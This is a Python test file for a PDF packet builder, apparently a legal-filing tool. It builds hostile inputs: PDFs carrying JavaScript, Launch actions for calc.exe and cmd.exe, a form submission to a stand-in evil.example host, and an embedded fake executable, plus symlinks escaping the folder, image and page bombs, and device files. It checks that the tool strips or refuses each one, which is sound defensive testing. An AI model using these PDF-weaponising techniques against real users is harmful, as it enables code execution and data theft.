"""Hostile inputs to packets and the PDF layer, all generated here, all fast.

Each test is a probe an attacker (or an unlucky user) would try: links out of
the spec's folder, PDFs that carry actions and attachments, files that are
not files, pages and images built to exhaust memory.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from bench import fuzz_pdf
from docgen.cli import main
from docgen.errors import InputLimitError, PacketError
from docgen.mailroom.ingest import ingest_inbox
from docgen.notices import parse_notice_file
from docgen.notices.layout import Word
from docgen.packets import build_packet, check_file
from docgen.pdf.limits import EVIDENCE_CAPS, NOTICE_CAPS, PILLOW_MAX_PIXELS

from .conftest import ROOT
from .packetcheck import line_of, write_spec

PLAIN_SPEC = "kind: filing\nindex: false\ndividers: false\nstamp: {style: none}\n"


def small_pdf(text: str = "evidence", pages: int = 1) -> pikepdf.Pdf:
    """A PDF of ``pages`` letter pages, each with a line of text in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 700 Td ({text} {number + 1}) Tj ET".encode())
    return pdf


def write_pdf(path: Path, pdf: pikepdf.Pdf | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    (pdf or small_pdf(path.stem)).save(path)
    return path


# --- 1. links out of the allowed folders ------------------------------------------------------


@pytest.fixture
def other_client(tmp_path: Path) -> Path:
    """Another client's confidential PDF, outside the packet's folder."""
    return write_pdf(tmp_path / "clients" / "other" / "passport.pdf", small_pdf("OTHER CLIENT"))


def _packet_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "packet"
    write_pdf(folder / "evidence" / "good.pdf")
    return folder


def test_a_link_to_a_file_outside_the_spec_folder_is_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "offer.pdf").symlink_to(other_client)
    spec = write_spec(
        folder, PLAIN_SPEC + "exhibits:\n  - title: Offer\n    files: [evidence/good.pdf, evidence/offer.pdf]\n"
    )
    with pytest.raises(PacketError) as caught:
        build_packet(spec, folder / "out.pdf")
    message = str(caught.value)
    assert message.startswith(f"{spec}:{line_of(spec, 'offer.pdf')}: exhibit A 'Offer': evidence/offer.pdf: ")
    assert str(other_client) in message and "--allow-dir" in message and "\n" not in message
    assert not (folder / "out.pdf").exists()


def test_a_link_inside_an_exhibit_folder_is_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "a-statement.pdf").symlink_to(other_client)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Statements\n    folder: evidence\n")
    with pytest.raises(PacketError, match=r"exhibit A 'Statements': evidence/a-statement.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")


def test_a_linked_folder_and_a_part_pointing_outside_are_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "more").symlink_to(other_client.parent, target_is_directory=True)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: More\n    files: [evidence/more/passport.pdf]\n")
    with pytest.raises(PacketError, match=r"evidence/more/passport.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")
    spec = write_spec(folder, PLAIN_SPEC + f"parts:\n  - document: {other_client}\n")
    with pytest.raises(PacketError, match=rf"^{spec}:6: part 'passport': {other_client}: .*outside"):
        build_packet(spec, folder / "out.pdf")
    spec = write_spec(folder, PLAIN_SPEC + "parts:\n  - notice: ../clients/other/passport.pdf\n")
    with pytest.raises(PacketError, match=r"\.\./clients/other/passport.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")


def test_folders_named_by_the_user_are_allowed(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "offer.pdf").symlink_to(other_client)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Offer\n    files: [evidence/offer.pdf]\n")
    result = build_packet(spec, folder / "out.pdf", allow_dirs=[other_client.parent])
    assert result.pages == 1
    # the CLI: refused without the option (exit 9, one line), built with it
    assert main(["packet", "build", str(spec), "-o", str(folder / "cli.pdf")]) == 9
    assert main(["packet", "build", str(spec), "-o", str(folder / "cli.pdf"), "--allow-dir", str(tmp_path)]) == 0
    assert (folder / "cli.pdf").is_file()


def test_links_that_stay_inside_the_spec_folder_are_fine(tmp_path: Path) -> None:
    folder = _packet_folder(tmp_path)
    os.symlink("good.pdf", folder / "evidence" / "same.pdf")
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Same\n    files: [evidence/same.pdf]\n")
    assert build_packet(spec, folder / "out.pdf").pages == 1


# --- 2. actions, scripts and attachments ------------------------------------------------------

EXECUTABLE = b"MZ\x90\x00 this program cannot be run in DOS mode (a fake executable)"


def hostile_pdf() -> pikepdf.Pdf:
    """Two pages carrying every kind of action and attachment the issue names, in every place they hang."""
    pdf = small_pdf("hostile", pages=2)
    name = pikepdf.Name

    def action(**entries: object) -> pikepdf.Object:
        return pdf.make_indirect(pikepdf.Dictionary(Type=name.Action, **entries))

    script = action(S=name.JavaScript, JS=pikepdf.String("app.alert('owned')"))
    launch = action(S=name.Launch, F=pikepdf.String("C:\\Windows\\System32\\calc.exe"))
    submit = action(S=name.SubmitForm, F=pikepdf.Dictionary(FS=name.URL, F=pikepdf.String("https://evil.example/x")))
    share = action(S=name.GoToR, F=pikepdf.String("\\\\evil-share\\docs\\x.pdf"), D=pikepdf.Array([0, name.Fit]))
    uri = action(S=name.URI, URI=pikepdf.String("https://example.org/"), Next=pikepdf.Array([script]))
    payload = pdf.make_stream(EXECUTABLE, Type=name.EmbeddedFile)
    spec = pdf.make_indirect(
        pikepdf.Dictionary(Type=name.Filespec, F=pikepdf.String("invoice.exe"), EF=pikepdf.Dictionary(F=payload))
    )
    pdf.Root.OpenAction = action(S=name.JavaScript, JS=pikepdf.String("this.print()"))
    pdf.Root.AA = pikepdf.Dictionary(WC=script)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("invoice.exe"), spec])),
    )

    def link(target: pikepdf.Object, y: int) -> pikepdf.Object:
        return pdf.make_indirect(
            pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[72, y, 300, y + 20], A=target)
        )

    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    attachment = pdf.make_indirect(
        pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[400, 700, 420, 720], FS=spec)
    )
    first.Annots = pikepdf.Array([link(uri, 600), link(launch, 560), link(share, 520), attachment])
    first.AA = pikepdf.Dictionary(O=script)
    button = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=name.Annot,
            Subtype=name.Widget,
            FT=name.Btn,
            Ff=1 << 16,
            T=pikepdf.String("send"),
            Rect=[72, 400, 200, 430],
            P=second,
            A=submit,
            AA=pikepdf.Dictionary(D=script),
        )
    )
    second.Annots = pikepdf.Array([button])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
    return pdf


def _qpdf_plain(path: Path) -> bytes:
    """The file as qpdf writes it uncompressed (every object in the open, object streams undone)."""
    out = path.with_suffix(".qdf")
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(path), str(out)], check=False)
    return out.read_bytes()


ACTIVE_MARKS = [b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/GoToR", b"/URI", b"/OpenAction", b"/AA"]
ACTIVE_MARKS += [b"/EmbeddedFile", b"/FileAttachment", b"calc.exe", b"evil", b"MZ\x90"]


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "object-streams"])
def test_every_action_and_attachment_is_stripped_from_evidence(tmp_path: Path, packed: bool) -> None:
    evidence = tmp_path / "evidence" / "hostile.pdf"
    evidence.parent.mkdir()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    hostile_pdf().save(evidence, object_stream_mode=mode, compress_streams=packed)
    assert all(mark in _qpdf_plain(evidence) for mark in ACTIVE_MARKS)  # the probe carries them all
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Hostile\n    files: [evidence/hostile.pdf]\n")
    result = build_packet(spec, tmp_path / "out.pdf")
    assert result.pages == 2
    plain = _qpdf_plain(tmp_path / "out.pdf")
    assert [mark for mark in ACTIVE_MARKS if mark in plain] == []
    assert b"hostile 1" in plain and b"hostile 2" in plain  # the pages themselves are kept
    report = check_file(tmp_path / "out.pdf", "uscis-online")
    assert report.ok, report.lines()


def test_packet_check_finds_every_action_and_attachment(tmp_path: Path) -> None:
    path = tmp_path / "hostile.pdf"
    hostile_pdf().save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    report = check_file(path, "uscis-online")
    lines = "\n".join(report.lines())
    assert not report.ok and "passes" not in lines
    found = {f.check: f for f in report.findings}
    assert found["javascript"].status == "error"
    for place in ("document scripts", "document open action", "page 1", "page 2"):
        assert place in found["javascript"].detail, found["javascript"].detail
    assert found["actions"].status == "error"
    for kind in ("Launch", "SubmitForm", "GoToR", "URI"):
        assert kind in found["actions"].detail, found["actions"].detail
    assert found["embedded files"].status == "error" and "page 1 FileAttachment" in found["embedded files"].detail
    assert main(["packet", "check", str(path)]) == 9


def test_a_script_behind_a_link_is_found_through_the_next_chain(tmp_path: Path) -> None:
    """Only a URI link, whose /Next runs JavaScript: nothing else in the file."""
    pdf = small_pdf("link")
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=script)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    pdf.save(tmp_path / "link.pdf")
    found = {f.check: f for f in check_file(tmp_path / "link.pdf", "uscis-online").findings}
    assert found["javascript"].detail == "page 1" and found["actions"].detail.startswith("URI")


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file written by hand (object 1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_names_written_with_hex_escapes_do_not_slip_past(tmp_path: Path) -> None:
    """``/O#70enAction`` is /OpenAction and ``/#41A`` is /AA to every reader; the quick byte scan must not miss them."""
    contents = b"BT /F1 12 Tf 72 700 Td (escaped) Tj ET"
    data = _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /O#70enAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /#41A << /O 4 0 R >> >>",
            b"<< /S /#4Aava#53cript /J#53 (app.alert(1)) >>",
            b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream",
        ]
    )
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "escaped.pdf").write_bytes(data)
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Escaped\n    files: [evidence/escaped.pdf]\n")
    build_packet(spec, tmp_path / "out.pdf")
    plain = _qpdf_plain(tmp_path / "out.pdf")
    assert b"JavaScript" not in plain and b"/AA" not in plain and b"app.alert" not in plain


# --- 3. files built to exhaust memory or time; files that are not files ------------------------

RUN_LIMITS = "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000, 1_500_000_000)); "


def run_docgen(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The CLI in a child process held to 1.5 GB of address space and ``timeout`` seconds (a probe may not hang us)."""
    code = RUN_LIMITS + "from docgen.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=timeout, cwd=ROOT, env=os.environ
    )


def huge_page_pdf() -> bytes:
    """A PDF of a few hundred bytes whose one page is 200,000 points (230 feet) square."""
    contents = b"0 0 m 100 100 l S"
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200000 200000] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream",
        ]
    )


class NoOcr:
    """An OCR engine that must not be reached: the caps stop the file first."""

    calls = 0

    def words(self, image: Image.Image, dpi: int) -> list[Word]:
        NoOcr.calls += 1
        return []

    def orientation(self, image: Image.Image, dpi: int) -> int:
        return 0

    def line(self, image: Image.Image, dpi: int, chars: str = "") -> str:
        return ""


def test_a_tiny_pdf_with_a_huge_page_is_refused_before_rendering(tmp_path: Path) -> None:
    path = tmp_path / "huge.pdf"
    path.write_bytes(huge_page_pdf())
    assert path.stat().st_size < 700
    with pytest.raises(InputLimitError) as caught:
        parse_notice_file(path, engine=NoOcr())
    message = str(caught.value)
    assert message.startswith(f"{path}: page 1 is 2778 x 2778 inches; at 300 dpi that is ")
    assert "over the cap of 50 megapixels" in message and NoOcr.calls == 0
    done = run_docgen("notice", "parse", str(path))  # as a process held to 1.5 GB: a clean refusal, no kill
    assert done.returncode == 17 and "over the cap of 50 megapixels" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


def test_a_notice_with_too_many_pages_is_refused_before_any_ocr(tmp_path: Path) -> None:
    path = tmp_path / "blank-stack.pdf"
    pdf = pikepdf.new()
    for _ in range(NOTICE_CAPS.pages + 1):
        pdf.add_blank_page(page_size=(612, 792))
    pdf.save(path)
    NoOcr.calls = 0
    with pytest.raises(InputLimitError, match=rf"^{path}: {NOTICE_CAPS.pages + 1} pages, over the cap of 60"):
        parse_notice_file(path, engine=NoOcr())
    assert NoOcr.calls == 0


def _png(size: tuple[int, int]) -> bytes:
    """A one-bit PNG of ``size`` pixels: tiny on disk, huge once decoded."""
    buffer = io.BytesIO()
    Image.new("1", size, 1).save(buffer, "PNG")
    return buffer.getvalue()


def _jpeg_claiming(size: tuple[int, int]) -> bytes:
    """A small JPEG whose header claims ``size`` pixels (what a decoder would allocate)."""
    buffer = io.BytesIO()
    Image.new("L", (16, 16), 255).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = size[1].to_bytes(2, "big") + size[0].to_bytes(2, "big")
    return bytes(data)


def test_a_144_megapixel_scan_is_refused_before_decoding(tmp_path: Path) -> None:
    scan = tmp_path / "scan.png"
    scan.write_bytes(_png((12000, 12000)))
    NoOcr.calls = 0
    with pytest.raises(InputLimitError, match=r"12000 x 12000 pixels is 144 megapixels, over the cap of 50"):
        parse_notice_file(scan, engine=NoOcr())
    assert NoOcr.calls == 0
    assert Image.MAX_IMAGE_PIXELS == PILLOW_MAX_PIXELS  # Pillow's own guard is set to the largest cap


@pytest.mark.parametrize(
    ("name", "data", "problem"),
    [
        ("scan.png", _png((9000, 9000)), "evidence/scan.png: 9000 x 9000 pixels is 81 megapixels, over the cap of 60"),
        ("photo.jpg", _jpeg_claiming((20000, 20000)), "evidence/photo.jpg: the image is over 120 megapixels"),
        ("photo2.jpg", _jpeg_claiming((11000, 11000)), "evidence/photo2.jpg: 11000 x 11000 pixels is 121 megapixels"),
    ],
    ids=["png", "jpeg-bomb", "jpeg"],
)
def test_evidence_images_over_the_caps_are_refused(tmp_path: Path, name: str, data: bytes, problem: str) -> None:
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / name).write_bytes(data)
    spec = write_spec(tmp_path, PLAIN_SPEC + f"exhibits:\n  - title: Scans\n    files: [evidence/{name}]\n")
    with pytest.raises(InputLimitError) as caught:
        build_packet(spec, tmp_path / "out.pdf")
    assert str(caught.value).startswith(f"{spec}:{line_of(spec, name)}: exhibit A 'Scans': {problem}")


def test_evidence_with_too_many_pages_is_refused(tmp_path: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    for _ in range(EVIDENCE_CAPS.pages):  # one page object listed 3,001 times: a few kilobytes
        pdf.pages.append(pdf.pages[0])
    write_pdf(tmp_path / "evidence" / "many.pdf", pdf)
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Many\n    files: [evidence/many.pdf]\n")
    with pytest.raises(InputLimitError, match=r"evidence/many.pdf: 3001 pages, over the cap of 3000"):
        build_packet(spec, tmp_path / "out.pdf")


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (lambda path: os.mkfifo(path), "is a named pipe (FIFO), not a file"),
        (lambda path: path.symlink_to("/dev/zero"), "is a character device (like /dev/zero), not a file"),
    ],
    ids=["fifo", "dev-zero"],
)
def test_pipes_and_devices_as_evidence_are_refused(tmp_path: Path, make: Any, problem: str) -> None:
    (tmp_path / "evidence").mkdir()
    write_pdf(tmp_path / "evidence" / "good.pdf")
    make(tmp_path / "evidence" / "odd.pdf")
    spec = write_spec(
        tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Odd\n    files: [evidence/good.pdf, evidence/odd.pdf]\n"
    )
    done = run_docgen("packet", "build", str(spec), "-o", str(tmp_path / "out.pdf"), "--allow-dir", "/dev")
    assert done.returncode == 14, done.stderr
    assert done.stderr.strip() == (
        f"docgen: error: {spec}:{line_of(spec, 'odd.pdf')}: exhibit A 'Odd': evidence/odd.pdf: {problem}; "
        "give the document file itself"
    )
    assert not (tmp_path / "out.pdf").exists()


def test_a_pipe_given_as_a_notice_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "notice.pdf")
    done = run_docgen("notice", "parse", str(tmp_path / "notice.pdf"))
    assert done.returncode == 14 and "is a named pipe (FIFO), not a file" in done.stdout + done.stderr


# --- more probes: loops and odd places -------------------------------------------------------


def test_a_loop_of_links_is_refused_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "a.pdf").symlink_to("b.pdf")
    (tmp_path / "evidence" / "b.pdf").symlink_to("a.pdf")
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Loop\n    files: [evidence/a.pdf]\n")
    with pytest.raises(PacketError, match=r"exhibit A 'Loop': evidence/a.pdf: is a loop of symbolic links"):
        build_packet(spec, tmp_path / "out.pdf")


def test_an_allowed_folder_that_does_not_exist_is_a_usage_error(tmp_path: Path) -> None:
    write_pdf(tmp_path / "evidence" / "good.pdf")
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: X\n    files: [evidence/good.pdf]\n")
    assert main(["packet", "build", str(spec), "-o", str(tmp_path / "o.pdf"), "--allow-dir", "/nowhere/x"]) == 2


def test_an_action_chain_that_loops_and_a_bookmark_that_launches(tmp_path: Path) -> None:
    """/Next pointing back at itself must not hang the check or the build; a bookmark's Launch is found."""
    pdf = small_pdf("loop")
    looping = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/")))
    looping.Next = looping
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=looping)
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Open me", 0))
    first = pdf.Root.Outlines.First
    first.A = launch
    write_pdf(tmp_path / "evidence" / "loop.pdf", pdf)
    found = {f.check: f for f in check_file(tmp_path / "evidence" / "loop.pdf", "uscis-online").findings}
    assert found["actions"].detail == "Launch (bookmarks); URI (page 1)"
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Loop\n    files: [evidence/loop.pdf]\n")
    build_packet(spec, tmp_path / "out.pdf")
    assert check_file(tmp_path / "out.pdf", "uscis-online").ok


def test_a_page_tree_that_loops_is_refused_or_read_never_hung(tmp_path: Path) -> None:
    contents = b"BT /F1 12 Tf 72 700 Td (loop) Tj ET"
    data = _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream",
        ]
    )
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "tree.pdf").write_bytes(data)
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Tree\n    files: [evidence/tree.pdf]\n")
    done = run_docgen("packet", "build", str(spec), "-o", str(tmp_path / "out.pdf"), timeout=60)
    assert done.returncode in (0, 15), done.stderr  # read, or refused as damaged
    assert "Traceback" not in done.stderr


# --- a short fuzz run (bench/fuzz_pdf.py runs it longer) -------------------------------------

FUZZ_SEED = fuzz_pdf.seed_pdf()


@settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck), database=None)
@given(data=st.data())
def test_fuzzed_evidence_builds_clean_or_stops_in_one_line(data: st.DataObject, tmp_path_factory: Any) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    assert fuzz_pdf.probe_pdf(data.draw(fuzz_pdf.mutated(FUZZ_SEED)), folder) in ("built", "refused")


@settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck), database=None)
@given(lines=st.lists(st.sampled_from(fuzz_pdf.SPEC_LINES), min_size=1, max_size=8))
def test_fuzzed_specs_load_or_stop_in_one_line(lines: list[str], tmp_path_factory: Any) -> None:
    assert fuzz_pdf.probe_spec(lines, tmp_path_factory.mktemp("spec")) in ("loaded", "refused")


def test_in_the_mailroom_a_file_over_the_caps_goes_to_review_with_the_reason(tmp_path: Path) -> None:
    """The huge-page PDF does not stop the inbox: it waits for review, the reason beside it; the next file is read."""
    inbox, cases = tmp_path / "inbox", tmp_path / "cases"
    inbox.mkdir()
    cases.mkdir()
    (inbox / "a-huge.pdf").write_bytes(huge_page_pdf())
    write_pdf(inbox / "b-letter.pdf", small_pdf("Dear client, this is not a notice of any kind at all, just a letter"))
    report = ingest_inbox(inbox, tmp_path / "docket.sqlite", cases)
    assert report.files == 2 and len(report.review) == 2
    reasons = {p.name: p.read_text() for p in (tmp_path / "review").rglob("*.reason.txt")}
    huge = next(text for name, text in reasons.items() if "a-huge" in name)
    assert "page 1 is 2778 x 2778 inches" in huge and "over the cap of 50 megapixels" in huge
    assert sorted(inbox.iterdir()) == []
